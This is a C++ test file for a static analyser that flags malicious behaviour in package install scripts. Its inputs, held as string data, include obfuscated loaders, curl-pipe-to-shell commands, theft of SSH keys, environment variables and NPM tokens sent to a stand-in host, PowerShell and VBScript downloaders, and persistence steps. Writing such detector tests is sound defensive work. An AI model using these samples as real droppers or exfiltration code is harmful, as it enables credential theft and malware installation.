#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/limits.h"
#include "base/text.h"
#include "facts/harness_test.h"
#include "facts/lang/batch.h"
#include "facts/lang/script_reader.h"

namespace facts {
namespace {

/// What the facts of a file say that an install script runs: one line each, without what every line
/// would have.
std::string FactsOf(std::string_view path, std::string_view text, std::string_view command = {}) {
  const std::string run = command.empty() ? "python " + std::string(path) : std::string(command);
  const std::string manifest =
      "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"" + run + "\"}}";
  const Facts facts =
      ExtractFrom({{"package.json", manifest}, {path, text}}, {.name = "p", .version = "1.0.0"});
  std::string lines;
  for (const Fact& fact : facts) {
    const std::string_view name = InfoOf(fact.kind).name;
    if (!name.starts_with("script.") || fact.evidence.file.View() != path) continue;
    if (name == "script.program") continue;
    EXPECT_EQ(fact.phase, Phase::kInstall) << name;
    lines += std::string(name.substr(7)) + " " + std::to_string(fact.evidence.position.line);
    for (const FactValue& value : fact.values) {
      if (value.key == "script" || value.key == "command" || value.key == "code" ||
          value.key == "transport" || value.key == "insecure" || value.key == "where")
        continue;
      const std::string quoted = Quote(value.text.View(), 200);
      lines += " " + value.key + "=" + quoted.substr(1, quoted.size() - 2);
    }
    if (!fact.evidence.decoded.empty()) lines += " => " + std::string(fact.evidence.decoded.View());
    lines += "\n";
  }
  return lines;
}

std::string Python(std::string_view text) {
  return FactsOf("run.py", text);
}
std::string PowerShell(std::string_view text) {
  return FactsOf("run.ps1", text, "powershell -File run.ps1");
}
std::string VbScript(std::string_view text) {
  return FactsOf("run.vbs", text, "cscript run.vbs");
}
std::string AppleScript(std::string_view text) {
  return FactsOf("run.applescript", text, "osascript run.applescript");
}
std::string BatchFile(std::string_view text) {
  return FactsOf("run.bat", text, "run.bat");
}

TEST(Python, FollowsAliasesToWhatIsRun) {
  EXPECT_EQ(Python("import urllib.request as u\nfrom os import system as s\n"
                   "d = u.urlopen('https://h.example/a').read()\nexec(d)\n"),
            "download 3 host=h.example program=python to=variable url=https://h.example/a\n"
            "download-run 4 host=h.example how=inline interpreter=python program=python "
            "url=https://h.example/a\n"
            "eval 4 how=fetched program=python\n");
  EXPECT_EQ(Python("import subprocess\nsubprocess.run(['curl', '-s', 'https://h.example/x', '-o', "
                   "'/tmp/x'])\n"),
            "download 2 host=h.example program=curl to=file url=https://h.example/x\n"
            "write 2 how=download path=/tmp/x\n");
}

TEST(Python, DecodesLayersOfTextAndReadsThem) {
  // import os; os.system("curl https://h.example/x | sh")
  const std::string_view code =
      "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cHM6Ly9oLmV4YW1wbGUveCB8IHNoIik=";
  const std::string plain = "import os; os.system(\"curl https://h.example/x | sh\")";
  const std::string direct =
      Python("import base64\nexec(base64.b64decode('" + std::string(code) + "'))\n");
  EXPECT_NE(direct.find("decode 2 encoding=base64 program=python runs=yes => " + plain),
            std::string::npos)
      << direct;
  EXPECT_NE(direct.find("download-run 2 host=h.example how=pipe interpreter=sh program=curl"),
            std::string::npos)
      << direct;
  const std::string reversed(code.rbegin(), code.rend());
  const std::string hidden = Python(
      "def d(s):\n    return __import__('base64').b64decode(s[::-1])\n"
      "getattr(__builtins__, 'ex' + 'ec')(d('" +
      reversed + "'))\n");
  EXPECT_NE(hidden.find("download-run 3 host=h.example"), std::string::npos) << hidden;
}

TEST(Python, ReadsNumbersAsText) {
  const std::string codes = Python(
      "exec(''.join(chr(c ^ 1) for c in [104,108,113,110,115,117,33,110,114,58,110,114,47,114,120,"
      "114,117,100,108,41,38,114,116,101,110,33,96,38,40]))\n");
  EXPECT_NE(codes.find("privilege 1 program=sudo"), std::string::npos) << codes;
  const std::string bytes = Python(
      "import os\nexec(bytes([111,115,46,115,121,115,116,101,109,40,39,115,117,100,111,32,"
      "97,39,41]))\n");
  EXPECT_NE(bytes.find("decode 2 encoding=char-codes program=python runs=yes"), std::string::npos)
      << bytes;
}

TEST(Python, SeesWhatLeaves) {
  EXPECT_EQ(Python("import os, requests, json\n"
                   "requests.post('https://h.example/c', data=json.dumps(dict(os.environ)))\n"),
            "download 2 host=h.example program=python to=variable url=https://h.example/c\n"
            "secret-read 2 name=environment sort=whole-environment source=environment\n"
            "send 2 data=environment host=h.example program=python url=https://h.example/c\n");
  EXPECT_EQ(
      Python("import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
             "urllib.request.urlopen('https://h.example/', k.encode())\n"),
      "download 3 host=h.example program=python to=variable url=https://h.example/\n"
      "secret-read 2 name=~/.ssh/id_rsa sort=ssh source=file\n"
      "send 3 data=file host=h.example program=python url=https://h.example/\n");
  EXPECT_EQ(Python("import os\nt = os.environ['NPM_TOKEN']\nimport socket\n"
                   "socket.gethostbyname(t + '.h.example')\n"),
            "network 4 host=$NPM_TOKEN.h.example program=python\n"
            "secret-read 2 name=NPM_TOKEN sort=npm source=environment\n"
            "send 4 data=environment host=$NPM_TOKEN.h.example program=python\n");
}

TEST(Python, IsQuietAboutOrdinaryPrograms) {
  EXPECT_EQ(Python("#!/usr/bin/env python\n\"\"\"Builds the thing: exec(x), urlopen(y).\"\"\"\n"
                   "import os, sys, json\n\nclass A(object):\n  def run(self, x=1):\n"
                   "    # os.system('sudo a')\n    return [y * 2 for y in x if y]\n\n"
                   "if __name__ == '__main__':\n  print(json.dumps({'a': A().run([1])}))\n"),
            "");
}

TEST(PowerShell, FetchesAndRuns) {
  EXPECT_EQ(PowerShell("$c = New-Object System.Net.WebClient\n"
                       "$s = $c.DownloadString('https://h.example/a')\nI`E`X $s\n"),
            "download 2 host=h.example program=powershell to=variable url=https://h.example/a\n"
            "download-run 3 host=h.example how=substitution interpreter=iex program=powershell "
            "url=https://h.example/a\neval 3 how=fetched program=powershell\n");
  const std::string spelled = PowerShell(
      "& ('i'+'ex') ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
      "'c3VkbyBhYmM=')))\n");
  EXPECT_NE(spelled.find("privilege 1 program=sudo"), std::string::npos) << spelled;
  EXPECT_NE(PowerShell("iex (-join ([char[]](115,117,100,111,32,97)))\n").find("privilege"),
            std::string::npos);
  EXPECT_NE(
      PowerShell("(115,117,100,111,32,97 | % { [char]$_ }) -join '' | iex\n").find("privilege"),
      std::string::npos);
}

TEST(PowerShell, RunsWhatItFetchedByEveryNameOfIt) {
  for (const std::string_view run :
       {"& $env:TEMP\\a.exe", "& \"$env:TEMP\\a.exe\"", "Start-Process \"$env:TEMP\\a.exe\"",
        "Start-Process $env:TEMP\\a.exe -WindowStyle Hidden"}) {
    const std::string facts =
        PowerShell("iwr https://h.example/a -OutFile $env:TEMP\\a.exe\n" + std::string(run) + "\n");
    EXPECT_NE(facts.find("download-run 2 host=h.example how=file"), std::string::npos) << facts;
  }
  const std::string other =
      PowerShell("iwr https://h.example/a -OutFile $env:TEMP\\a.exe\n& $env:TEMP\\b.exe\n");
  EXPECT_EQ(other.find("download-run"), std::string::npos) << other;
}

TEST(PowerShell, SeesPersistenceAndDefences) {
  EXPECT_EQ(
      PowerShell("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion"
                 "\\Run' -Name a -Value b\nAdd-MpPreference -ExclusionPath C:\\x\n"
                 "Get-Clipboard\n"),
      "persistence 1 how=run-key path=HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
      "\\a\\b\\\n"
      "watch 3 program=powershell what=clipboard\n"
      "weaken 2 program=powershell what=defender\n");
}

TEST(VbScript, DrivesTheScriptHost) {
  const std::string facts = VbScript(
      "Dim h : Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
      "\"http://192.0.2.7/a.exe\", "
      "False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Write h.ResponseBody\n"
      "s.SaveToFile \"C:\\a.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"C:\\a.exe\", 0\n");
  EXPECT_NE(facts.find("download 2 host=192.0.2.7 program=vbscript"), std::string::npos) << facts;
  EXPECT_NE(facts.find("write 7 how=download path=C:\\a.exe"), std::string::npos) << facts;
  EXPECT_NE(facts.find("download-run 8 host=192.0.2.7 how=file"), std::string::npos) << facts;
  const std::string shell = VbScript(
      "Set w = CreateObject(\"WScript\" & \".Shell\")\n"
      "w.Run \"cmd /c sudo \" & StrReverse(\"a\"), 0, True\n");
  EXPECT_NE(shell.find("privilege 2 program=sudo"), std::string::npos) << shell;
}

TEST(AppleScript, RunsShellsAndAsksForPasswords) {
  const std::string facts = AppleScript(
      "set u to \"https://h.example/\" & \"a\"\ndo shell script \"curl -s \" & u & \" | sh\"\n"
      "display dialog \"Password\" default answer \"\" with hidden answer\n");
  EXPECT_NE(facts.find("download-run 2 host=h.example how=pipe interpreter=sh program=curl"),
            std::string::npos)
      << facts;
  EXPECT_NE(facts.find("watch 3 program=applescript what=password-dialog"), std::string::npos)
      << facts;
}

TEST(Batch, PutsSplitCommandsTogether) {
  EXPECT_EQ(BatchToShell("@echo off\r\nset a=cu\r\nset b=rl\r\nif exist x (%a%%b% h.example)\r\n"),
            "echo off\n\n\ncurl h.example\n\n");
  EXPECT_EQ(BatchToShell("set s=xcurly\ncall %s:~1,4% \"C:\\a b\" & p^ower"),
            "\ncurl \"C:\\\\a b\" ; p\\ower\n");
  const std::string facts = BatchFile(
      "@echo off\r\nrem sudo\r\nset h=h.example\r\ncurl https://%h%/a.exe -o a.exe\r\na.exe\r\n");
  EXPECT_NE(facts.find("download 4 host=h.example program=curl to=file"), std::string::npos)
      << facts;
  EXPECT_EQ(facts.find("privilege"), std::string::npos) << facts;
}

TEST(Scripts, AreReadWithoutBeingReached) {
  const Facts facts = Only(ExtractFrom({{"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\"}"},
                                        {"x.pth", "/lib\nimport os; os.system('sudo a')\n"}},
                                       {.name = "p", .version = "1.0.0"}),
                           "script.privilege");
  EXPECT_EQ(Lines(facts), "script.privilege x.pth:2:1 program=sudo script=x.pth\n");
}

TEST(Scripts, AreBounded) {
  const std::string deep = "exec(" + std::string(5000, '(') + "\n";
  EXPECT_NO_FATAL_FAILURE(Python(deep));
  EXPECT_NE(Python("a='x'\n" + std::string(1'100'000, ' ')).find("unparsed 1 reason=too-long"),
            std::string::npos);
  std::string doubling = "a='xxxxxxxx'\n";
  for (int i = 0; i < 60; ++i) doubling += "a=a+a\n";
  EXPECT_NO_FATAL_FAILURE(Python(doubling));
  std::string calls = "def f0(x): return x\n";
  for (int i = 1; i < 40; ++i)
    calls += "def f" + std::to_string(i) + "(x): return f" + std::to_string(i - 1) + "(x)+f" +
             std::to_string(i - 1) + "(x)\n";
  EXPECT_NE(Python(calls + "f39('a')\n").find("unparsed 1 reason=too-many"), std::string::npos);
}

}  // namespace
}  // namespace facts
